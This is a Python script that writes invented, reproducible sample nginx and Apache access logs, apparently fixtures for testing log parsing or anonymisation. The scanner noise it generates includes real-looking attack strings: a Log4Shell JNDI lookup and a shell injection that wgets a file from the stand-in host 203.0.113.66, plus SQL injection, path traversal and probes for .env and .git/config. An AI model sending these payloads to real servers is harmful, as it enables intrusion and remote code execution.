"""Writes the sample logs: the same bytes at each run, all of it invented, seeded by the name of each log.

Clients are drawn at random from the prefixes in `networks.csv`; nobody's traffic was recorded.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import ipaddress
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta, timezone
from functools import partial
from pathlib import Path
from typing import TypeVar

HERE = Path(__file__).resolve().parent
BERLIN = timezone(timedelta(hours=1))
T = TypeVar("T")

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
PEOPLE = ("jane.doe", "max.mustermann", "erika-m", "o.nymous", "pat.q.public", "lena")
CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36"
SAFARI = "Mozilla/5.0 ({}) AppleWebKit/605.1.15 (KHTML, like Gecko) {}"
WINDOWS, MAC, LINUX = "Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64"
PHONE, IPHONE = "Linux; Android 10; K", "iPhone; CPU iPhone OS 18_7 like Mac OS X"
BROWSERS = (
    *(CHROME.format(system, version) for version in (141, 142, 140, 138) for system in (WINDOWS, MAC, LINUX)),
    *(CHROME.format(PHONE, version).replace(" Safari", " Mobile Safari") for version in (142, 141)),
    *(
        f"Mozilla/5.0 ({system}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
        for v in (145, 140)
        for system in (WINDOWS, LINUX)
    ),
    CHROME.format(WINDOWS, 142) + " Edg/142.0.0.0",
    SAFARI.format(MAC, "Version/19.1 Safari/605.1.15"),
    SAFARI.format(IPHONE, "Version/19.1 Mobile/15E148 Safari/604.1"),
    SAFARI.format(IPHONE, "Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.29.110;FBID/phone]"),
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; \\Pro\\)",
    'Mozilla/5.0 (Windows NT 10.0) "Grüße"/1.0',
)
BOTS = (
    ("66.249.64.0/19", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("2001:4860::/32", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("157.54.0.0/15", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("17.0.0.0/8", "Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)"),
    ("2a01:4f8::/32", "MyCrawler/1.0 (contact: jane.doe@example.org)"),
    ("51.75.0.0/16", "python-requests/2.32.3"),
    ("3.120.0.0/14", "4711-0815-bot/12345678901"),
)
SCANNERS = ("Mozilla/5.0 zgrab/0.x", "${jndi:ldap://203.0.113.66/a}", "curl/8.11.0", "-")
PROBES = (
    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/xmlrpc.php?rsd",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/?id=1'%20OR%20'1'='1", "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin?username=admin&psd=admin", "/shell?cd+/tmp;wget+http://203.0.113.66/x",
)  # fmt: skip
PAGES = (
    "/", "/", "/", "/index.html", "/kontakt.php", "/impressum", "/blog/2026-11-15-herbst", "/blog/2026-10-01-saison",
    "/produkte/", "/produkte/tee", "/produkte/kaffee", "/produkte/Gr%C3%BCner%20Tee", "/produkte/kakao", "/warenkorb",
    "/versand.html", "/agb.pdf", "/presse/archiv/20101209/", "/en/", "/en/products/tea", "/en/products/coffee",
)  # fmt: skip
ASSETS = (
    "/static/app.3f2a9c1b.js", "/static/style.css", "/application-9f86d081884c7d659a2feaa0c55ad015.css", "/favicon.ico",
    "/img/2026/05/foto-12.jpg", "/img/logo.svg", "/img/produkte/tee.webp", "/img/produkte/kaffee.webp",
    "/fonts/serif.woff2", "/download/catalogue-v2.1.zip", "/robots.txt",
)  # fmt: skip


class Dice:
    """Choices that are the same with every version of Python: all come from `random()` of one seed."""

    def __init__(self, seed: str) -> None:
        self._random = random.Random(seed).random

    def number(self, low: int, high: int) -> int:
        """An integer from `low` to `high`, both included."""
        return low + int(self._random() * (high - low + 1))

    def chance(self, share: float) -> bool:
        """True in `share` of the calls."""
        return self._random() < share

    def pick(self, items: Sequence[T]) -> T:
        """One of `items`, each as likely as the others."""
        return items[int(self._random() * len(items))]

    def early(self, items: Sequence[T]) -> T:
        """One of `items`, the first ones more often."""
        return items[int(self._random() ** 3 * len(items))]

    def digits(self, count: int, alphabet: str = "0123456789abcdef") -> str:
        """A run of `count` characters of `alphabet`."""
        return "".join(self.pick(alphabet) for _ in range(count))


@dataclass(frozen=True, slots=True)
class Visitor:
    """Who asks: an address, the name it resolves to ("" for none), an agent."""

    address: str
    name: str
    agent: str


@dataclass(frozen=True, slots=True)
class Access:
    """One request and its answer; `size` None is written as `-`."""

    client: str
    request: str
    status: int
    size: int | None
    referrer: str = "-"
    agent: str = "-"
    user: str = "-"


def address_in(prefix: str, dice: Dice) -> str:
    """An address of `prefix`, its canonical spelling."""
    network = ipaddress.ip_network(prefix)
    if network.version == 6:
        low = dice.number(0, (1 << 32) - 1) if dice.chance(0.7) else 1
        middle = dice.number(0, (1 << (64 - network.prefixlen)) - 1)
        return str(network[(middle << 64) + low])
    return str(network[dice.number(1, network.num_addresses - 2)])


def name_of(address: str, pattern: str) -> str:
    """The host name that a provider's `pattern` gives to `address`."""
    packed = ipaddress.ip_address(address).packed
    parts = [str(byte) for byte in packed[:4]]
    padded = [f"{byte:03}" for byte in packed[:4]]
    values = dict(zip("abcd", parts, strict=True))
    values |= {f"{key}0": value for key, value in zip("abcd", padded, strict=True)}
    values |= {"dash": "-".join(parts), "dash0": "-".join(padded), "hex": packed.hex().upper()}
    return pattern.format(**values, nibbles=packed.hex().upper())


def visitors(dice: Dice, count: int) -> list[Visitor]:
    """`count` visitors in the shares of `networks.csv`, the first of them the busiest, some of them crawlers."""
    with (HERE / "networks.csv").open(encoding="utf-8", newline="") as file:
        networks = list(csv.DictReader(file))
    tickets = [row for row in networks for _ in range(int(row["weight"]))]
    patterns = {row["prefix"]: row["name"] for row in networks}
    found = []
    for number in range(count):
        if number % 9 == 4:
            prefix, agent = dice.pick(BOTS)
        else:
            prefix, agent = dice.pick(tickets)["prefix"], dice.early(BROWSERS)
        address = address_in(prefix, dice)
        found.append(Visitor(address, name_of(address, patterns[prefix]), agent))
    return found


def personal_path(dice: Dice) -> str:
    """A path that says something of one person: section 2 of what must not be stored."""
    person = dice.pick(PEOPLE)
    return dice.pick(
        (
            f"/user/{person}%40example.org/profil",
            f"/newsletter/abmelden/{person}@example.org",
            f"/bestellung/{dice.digits(8)}-{dice.digits(4)}-4{dice.digits(3)}-a{dice.digits(3)}-{dice.digits(12)}",
            f"/reset/{dice.digits(32)}",
            f"/login/eyJhbGciOiJIUzI1NiJ9.eyJ{dice.digits(14, 'abcdefgXYZ123')}.{dice.digits(20, 'abcdefgHIJKLM456')}",
            f"/shop;jsessionid={dice.digits(16, '0123456789ABCDEF')}.node{dice.number(1, 3)}/warenkorb",
            f"/users/{dice.pick(PEOPLE)}/merkliste",
            f"/~{dice.pick(('jdoe', 'mmuster', 'lena'))}/tee.html",
            f"/order/{dice.number(4_000_000, 4_999_999)}",
            f"/geo/91.{dice.number(0, 63)}.{dice.number(0, 255)}.{dice.number(1, 254)}.json",
        )
    )


def query(dice: Dice) -> str:
    """A query, with the `?`; much of it personal."""
    return "?" + dice.pick(
        (
            f"q={dice.pick(('oolong', 'tee+kanne', 'jane+doe', 'gr%C3%BCn'))}",
            f"email={dice.pick(PEOPLE)}%40example.org&token={dice.digits(24)}",
            f"utm_source=brief&utm_id={dice.number(10_000, 99_999)}",
            f"ip=91.{dice.number(0, 63)}.7.{dice.number(1, 254)}&v=2",
            f"session={dice.digits(26, 'abcdefghXYZ0123456789')}",
        )
    )


def ordinary(dice: Dice, people: Sequence[Visitor]) -> Access:
    """A page, a part of one, or a personal page, as a visitor fetches it."""
    visitor = dice.early(people)
    kind = dice.number(1, 100)
    path = dice.pick(ASSETS) if kind > 55 else personal_path(dice) if kind > 47 else dice.pick(PAGES)
    if kind <= 55 and dice.chance(0.25):
        path += query(dice)
    status = dice.pick((200,) * 14 + (304, 304, 301, 404, 206, 500))
    size = 0 if status == 304 else dice.number(300, 60_000)
    referrer = "-"
    if kind > 40:
        referrer = "https://shop.example/" + dice.pick(
            ("", "produkte/", "suche?q=jane+doe", "?mail=lena%40example.org")
        )
    method = "POST" if "login" in path or "reset" in path else dice.pick(("GET",) * 12 + ("HEAD",))
    client = visitor.address
    if "." in client and dice.chance(0.02):
        client = f"::ffff:{client}"
    protocol = dice.pick(("HTTP/2.0", "HTTP/2.0", "HTTP/1.1"))
    user = "jane.doe" if "/users/" in path and dice.chance(0.5) else "-"
    return Access(client, f"{method} {path} {protocol}", status, size, referrer, visitor.agent, user)


def noise(dice: Dice) -> Access:
    """What arrives unasked: scanners, checks from the own network, bytes that are no HTTP."""
    scanner = address_in(dice.pick(("165.227.0.0/16", "51.75.0.0/16", "88.198.0.0/16")), dice)
    return dice.pick(
        (
            Access(scanner, f"GET {dice.pick(PROBES)} HTTP/1.1", 404, 153, "-", dice.pick(SCANNERS)),
            Access(scanner, f"GET {dice.pick(PROBES)} HTTP/1.1", 404, 153, "-", dice.pick(SCANNERS)),
            Access(scanner, f"POST /{dice.digits(12)}.php HTTP/1.1", 404, 153, "-", dice.pick(SCANNERS)),
            Access(scanner, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 400, 157),
            Access(scanner, "CONNECT mail.example:25 HTTP/1.1", 405, 157),
            Access(scanner, "GET http://visitor:secret@proxy.example/judge.php HTTP/1.1", 404, 153),
            Access(
                f"10.0.{dice.number(0, 3)}.{dice.number(2, 9)}", "GET /healthz HTTP/1.1", 200, 2, "-", "kube-probe/1.34"
            ),
            Access("192.168.178.20", "GET /admin/ HTTP/1.1", 401, 179, "-", BROWSERS[0], "admin"),
            Access("::1", "OPTIONS * HTTP/1.0", 200, None, "-", "Apache/2.4.66 (internal dummy connection)"),
        )
    )


def moments(dice: Dice, start: datetime, days: int, count: int) -> Iterator[datetime]:
    """`count` ascending times from `start` on, more by day than by night."""
    found = []
    while len(found) < count:
        second = dice.number(0, days * 86_400 - 1)
        if dice.chance(0.2 if second % 86_400 < 6 * 3600 else 1.0):
            found.append(second)
    return (start + timedelta(seconds=second) for second in sorted(found))


def nginx(text: str) -> bytes:
    r"""`text` as nginx writes it between quotes: `"`, `\` and bytes that are no printable ASCII as \xHH."""
    return b"".join(
        b"\\x%02X" % byte if byte < 32 or byte > 126 or byte in b'"\\' else bytes((byte,)) for byte in _raw(text)
    )


def apache(text: str) -> bytes:
    r"""`text` as Apache writes it between quotes: `\"`, `\\`, \t and the like, other unprintable bytes as \xhh."""
    short = {0x22: b'\\"', 0x5C: b"\\\\", 9: b"\\t", 10: b"\\n", 13: b"\\r", 8: b"\\b", 11: b"\\v"}
    return b"".join(
        short.get(byte) or (b"\\x%02x" % byte if byte < 32 or byte > 126 else bytes((byte,))) for byte in _raw(text)
    )


def _raw(text: str) -> bytes:
    """Bytes as they came over the wire: a request that is no HTTP is one byte a character."""
    return text.encode("latin-1" if text.startswith("\x16") else "utf-8")


def common(access: Access, moment: datetime, escape: Callable[[str], bytes] = apache) -> bytes:
    """A line of the format `common`, without its end."""
    stamp = f"{moment.day:02}/{MONTHS[moment.month - 1]}/{moment:%Y:%H:%M:%S %z}"
    size = "-" if access.size is None else str(access.size)
    head = f'{access.client} - {access.user} [{stamp}] "'.encode()
    return head + escape(access.request) + f'" {access.status} {size}'.encode()


def combined(access: Access, moment: datetime, escape: Callable[[str], bytes] = apache) -> bytes:
    """A line of the format `combined`, without its end."""
    return common(access, moment, escape) + b' "' + escape(access.referrer) + b'" "' + escape(access.agent) + b'"'


def shop(name: str, start: datetime, days: int, count: int) -> bytes:
    """A shop's log as nginx writes it: `combined`."""
    dice = Dice(name)
    people = visitors(dice, count // 7)
    lines = []
    for moment in moments(dice, start, days, count):
        access = noise(dice) if dice.chance(0.06) else ordinary(dice, people)
        lines.append(combined(access, moment, nginx))
    return b"\n".join(lines) + b"\n"


def hosts(name: str) -> bytes:
    """A log of Apache with `HostnameLookups On`: `common`, most clients as names, times at +0100."""
    dice = Dice(name)
    people = visitors(dice, 120)
    lines = []
    for moment in moments(dice, datetime(2026, 11, 19, tzinfo=BERLIN), 2, 900):
        access = ordinary(dice, people)
        client = next((one.name or one.address for one in people if one.address == access.client), "localhost")
        if dice.chance(0.03):
            client = dice.pick(
                ("ip-10-0-0-1.ec2.internal", "WWW.UNI-MUENSTER.DE.", "unknown", "gateway7.firma.example")
            )
        lines.append(common(Access(client, access.request, access.status, access.size), moment))
    return b"\n".join(lines) + b"\n"


def vhosts(name: str) -> bytes:
    """Three sites in one log of Apache: `combined_vhost`."""
    dice = Dice(name)
    people = visitors(dice, 80)
    people[3] = replace(people[3], agent=BROWSERS[-1])  # quotes and bytes that Apache escapes in its own way
    sites = ("www.shop.example:443", "www.shop.example:80", "blog.shop.example:443", "status.example:443")
    lines = []
    for moment in moments(dice, datetime(2026, 11, 20, tzinfo=UTC), 1, 450):
        access = noise(dice) if dice.chance(0.04) else ordinary(dice, people)
        lines.append(dice.early(sites).encode() + b" " + combined(access, moment))
    return b"\n".join(lines) + b"\n"


def old(name: str) -> bytes:
    """Six days of October, a few lines of them damaged: `common`.

    Five malformed lines, one of which ends the log, and one with NUL bytes.
    """
    dice = Dice(name)
    people = visitors(dice, 60)
    lines = []
    for moment in moments(dice, datetime(2026, 10, 8, tzinfo=UTC), 6, 400):
        access = ordinary(dice, people)
        lines.append(common(Access(access.client, access.request, access.status, access.size), moment))
    lines[77] = lines[77].replace(b" [", b" ", 1)
    lines[140] = lines[140].replace(b'" ', b" ", 1)
    lines[205] = b"\x00" * 24 + lines[205][24:]
    lines[290] = lines[290][:-1].rsplit(b" ", 1)[0] + b" many"
    lines[333] = b"logrotate: the log was cut here for jane.doe@example.org"
    lines[399] = lines[399][:47]
    return b"\n".join(lines) + b"\n"


def squeezed(data: bytes) -> bytes:
    """`data` as gzip, without name and time."""
    target = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", compresslevel=9, fileobj=target, mtime=0) as file:
        file.write(data)
    return target.getvalue()


LOGS: dict[str, Callable[[str], bytes]] = {
    "shop.access.log": partial(shop, start=datetime(2026, 11, 18, tzinfo=UTC), days=3, count=3000),
    "shop.access.log.1.gz": lambda name: squeezed(shop(name, datetime(2026, 11, 17, tzinfo=UTC), 1, 800)),
    "hosts.access.log": hosts,
    "vhosts.access.log": vhosts,
    "old.access.log": old,
}


def write_logs(folder: Path) -> None:
    """All logs, in `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in LOGS.items():
        (folder / name).write_bytes(make(name))


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE, help="folder to write to")
    write_logs(parser.parse_args().out)
